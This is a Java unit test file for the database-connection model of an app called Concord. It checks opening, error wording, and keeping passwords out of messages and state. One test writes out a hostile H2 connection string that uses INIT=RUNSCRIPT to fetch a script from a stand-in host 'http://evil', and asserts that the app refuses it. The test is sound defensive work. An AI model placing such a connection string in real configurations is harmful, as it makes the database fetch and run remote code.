package dev.concord.app.connect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.concord.app.task.Work;
import dev.concord.database.DatabaseSettings;
import dev.concord.database.Secret;
import dev.concord.ui.text.Texts;
import dev.concord.version.Policies;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Queue;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ConnectModelTest {
    private static final Texts TEXTS = Texts.of(Locale.UK);

    @TempDir
    Path folder;

    private final List<OpenDatabase> opened = new ArrayList<>();
    private final Queue<Runnable> background = new ArrayDeque<>();
    private final Queue<Runnable> fx = new ArrayDeque<>();
    private int cancelled;

    @AfterEach
    void close() {
        opened.forEach(OpenDatabase::close);
    }

    @Test
    void aSqliteFileOpensForReading() throws SQLException {
        ConnectModel model = model(Work.immediate());
        Path file = DatabaseFiles.sqlite(folder);
        model.fields().address().set(file.toString());
        model.open();

        OpenDatabase database = opened.getFirst();
        assertThat(database.database().readOnly()).isTrue();
        assertThat(database.label()).isEqualTo("shop.sqlite");
        assertThat(database.sample()).isFalse();
        assertThat(database.catalog().tables()).hasSize(3);
    }

    @Test
    void switchedOffItOpensForEditing() throws SQLException {
        ConnectModel model = model(Work.immediate());
        model.fields().address().set(DatabaseFiles.sqlite(folder).toString());
        model.fields().readOnly().set(false);
        model.open();

        assertThat(opened.getFirst().database().readOnly()).isFalse();
    }

    @Test
    void aTestTellsWhatWasFoundAndOpensNothing() throws SQLException {
        ConnectModel model = model(Work.immediate());
        model.fields().address().set(DatabaseFiles.sqlite(folder).toString());
        model.test();

        assertThat(model.state().get())
                .isInstanceOfSatisfying(ConnectState.Works.class, works -> assertThat(works.sentence())
                        .matches("Connected: SQLite 3\\.[0-9]+, 2 tables"));
        assertThat(opened).isEmpty();
    }

    @Test
    void theOutcomeOfATestNoLongerHoldsOnceSomethingChanged() throws SQLException {
        ConnectModel model = model(Work.immediate());
        model.fields().address().set(DatabaseFiles.sqlite(folder).toString());
        model.test();
        model.fields().file().set("elsewhere");

        assertThat(model.state().get()).isEqualTo(new ConnectState.Idle());
    }

    @Test
    void anH2FileOpensWithUserAndPassword() throws SQLException {
        ConnectModel model = model(Work.immediate());
        model.fields().address().set(DatabaseFiles.h2(folder).toString());
        model.fields().user().set("ada");
        model.fields().password().set(DatabaseFiles.PASSWORD);
        model.test();

        assertThat(model.state().get())
                .isInstanceOfSatisfying(ConnectState.Works.class, works -> assertThat(works.sentence())
                        .startsWith("Connected: H2 2.")
                        .endsWith(", 1 table"));
    }

    @Test
    void aWrongPasswordIsToldWithoutIt() throws SQLException {
        ConnectModel model = model(Work.immediate());
        model.fields().address().set(DatabaseFiles.h2(folder).toString());
        model.fields().user().set("ada");
        model.fields().password().set("not-the-one");
        model.open();

        ConnectState.Refused refused = refused(model);
        assertThat(refused.sentence()).isEqualTo("The database does not accept the user ada with this password.");
        assertThat(refused.detail()).isNotBlank().doesNotContain("not-the-one");
    }

    @Test
    void aMissingFileIsNamed() {
        Path missing = folder.resolve("none.sqlite");
        assertThat(sentenceFor(missing.toString())).isEqualTo("There is no file " + missing + ".");
    }

    @Test
    void aFileThatIsNoDatabaseIsNamed() throws IOException {
        Path file = Files.writeString(folder.resolve("letter.txt"), "Dear Ada");
        assertThat(sentenceFor(file.toString())).isEqualTo(file + " is not a SQLite or H2 database file.");
    }

    @Test
    void aSettingThatRunsCodeIsRefusedByName() {
        assertThat(sentenceFor("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'"))
                .startsWith("The address has the setting INIT, which Concord does not allow");
    }

    @Test
    void anUnknownHostIsNamed() {
        assertThat(sentenceFor("postgresql://no-such-host.invalid/shop"))
                .startsWith("No server named no-such-host.invalid was found.");
    }

    @Test
    void nothingAnsweringIsToldWithItsPort() {
        assertThat(sentenceFor("mariadb://localhost:1/shop")).startsWith("Nothing answers at localhost:1.");
    }

    @Test
    void anAddressOfNoKnownKindIsToldAsSuch() {
        assertThat(sentenceFor("jdbc:oracle:thin:@host")).startsWith("jdbc:oracle:thin:@host is neither");
    }

    @Test
    void withoutAnAddressThereIsNothingToOpen() {
        ConnectModel model = model(Work.immediate());
        assertThat(model.ready().get()).isFalse();
        model.open();
        assertThat(model.state().get()).isEqualTo(new ConnectState.Idle());
    }

    @Test
    void whatOpensAfterNobodyWaitsIsClosedAgain() throws SQLException {
        ConnectModel model = model(Work.of(background::add, fx::add, fault -> {}));
        model.fields().address().set(DatabaseFiles.h2(folder).toString());
        model.fields().user().set("ada");
        model.fields().password().set(DatabaseFiles.PASSWORD);
        model.open();
        assertThat(model.busy().get()).isTrue();
        background.remove().run();
        model.stopWaiting();
        assertThat(model.busy().get()).isFalse();
        fx.remove().run();

        assertThat(opened).isEmpty();
        assertThat(folder.resolve("shop.lock.db")).exists();
        background.remove().run();
        assertThat(folder.resolve("shop.lock.db")).doesNotExist();
    }

    @Test
    void theAnswerToAnOldQuestionIsNotShown() throws SQLException {
        ConnectModel model = model(Work.of(background::add, fx::add, fault -> {}));
        model.fields().address().set("/nowhere.sqlite");
        model.test();
        model.stopWaiting();
        model.fields().address().set(DatabaseFiles.sqlite(folder).toString());
        model.test();
        background.remove().run();
        fx.remove().run();

        assertThat(model.state().get()).isInstanceOf(ConnectState.Connecting.class);
    }

    @Test
    void cancellingTellsTheListener() {
        ConnectModel model = model(Work.immediate());
        model.cancel();
        assertThat(cancelled).isEqualTo(1);
    }

    @Test
    void noPasswordIsInWhatIsHandedOverOrSaid() {
        ConnectModel model = model(Work.of(background::add, fx::add, fault -> {}));
        model.fields().address().set("postgresql://ada:" + DatabaseFiles.PASSWORD + "@db/shop");
        model.test();

        assertThat(model.state().get().toString()).doesNotContain(DatabaseFiles.PASSWORD);
    }

    @Test
    void anOpenDatabaseForgetsItsPassword() throws SQLException {
        ConnectModel model = model(Work.immediate());
        model.fields().address().set(DatabaseFiles.h2(folder).toString());
        model.fields().user().set("ada");
        model.fields().password().set(DatabaseFiles.PASSWORD);
        model.open();

        assertThat(opened.getFirst().settings().password()).isEqualTo(Secret.NONE);
        assertThat(opened.getFirst().settings().user()).isEqualTo("ada");
    }

    @Test
    void aUserLeftOverFromAServerIsNotHandedToAFile() throws SQLException {
        ConnectModel model = model(Work.immediate());
        model.fields().user().set("ada");
        model.fields().address().set(DatabaseFiles.sqlite(folder).toString());
        model.open();

        assertThat(opened.getFirst().settings().user()).isEmpty();
    }

    @Test
    void aRecentDatabaseFillsEverythingButThePassword() {
        DatabaseSettings recent = new DatabaseSettings("postgresql://db/shop", "ada", Secret.NONE, false);
        ConnectModel model = model(Work.immediate(), recent);
        model.fields().password().set("of another database");
        model.chooseRecent(0);

        assertThat(model.recents()).containsExactly("postgresql://db/shop as ada");
        assertThat(model.fields().host().get()).isEqualTo("db");
        assertThat(model.fields().user().get()).isEqualTo("ada");
        assertThat(model.fields().password().get()).isEmpty();
        assertThat(model.fields().readOnly().get()).isFalse();
    }

    private String sentenceFor(String address) {
        ConnectModel model = model(Work.immediate());
        model.fields().address().set(address);
        model.open();
        return refused(model).sentence();
    }

    private static ConnectState.Refused refused(ConnectModel model) {
        assertThat(model.state().get()).isInstanceOf(ConnectState.Refused.class);
        return (ConnectState.Refused) model.state().get();
    }

    private ConnectModel model(Work work, DatabaseSettings... recents) {
        ConnectModel.Listener listener = new ConnectModel.Listener() {
            @Override
            public void opened(OpenDatabase database) {
                opened.add(database);
            }

            @Override
            public void cancelled() {
                cancelled++;
            }
        };
        return new ConnectModel(new Opening(settings -> Policies.DEFAULT), List.of(recents), work, TEXTS, listener);
    }
}
